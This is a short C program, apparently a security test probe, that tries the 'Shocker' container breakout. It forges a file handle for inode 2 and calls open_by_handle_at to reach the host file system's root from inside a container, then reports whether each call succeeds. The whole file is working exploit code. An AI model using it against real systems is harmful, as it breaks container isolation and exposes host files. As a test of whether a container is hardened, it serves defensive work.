// "Shocker": opens files by handles that are guessed, not looked up: inode 2 is the root of most file systems.
#include "report.h"

struct handle {
    struct file_handle head;
    unsigned char bytes[8];
};

int main(int argc, char **argv) {
    if (argc != 2) return 2; // any file of the file system that is to be broken out of
    int mount = open(argv[1], O_RDONLY);
    struct handle own = {.head.handle_bytes = 8}, root = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int id;
    tried("name_to_handle_at", name_to_handle_at(AT_FDCWD, argv[1], &own.head, &id, 0));
    tried("open_by_handle_at", open_by_handle_at(mount, &root.head, O_RDONLY | O_DIRECTORY));
    return 0;
}
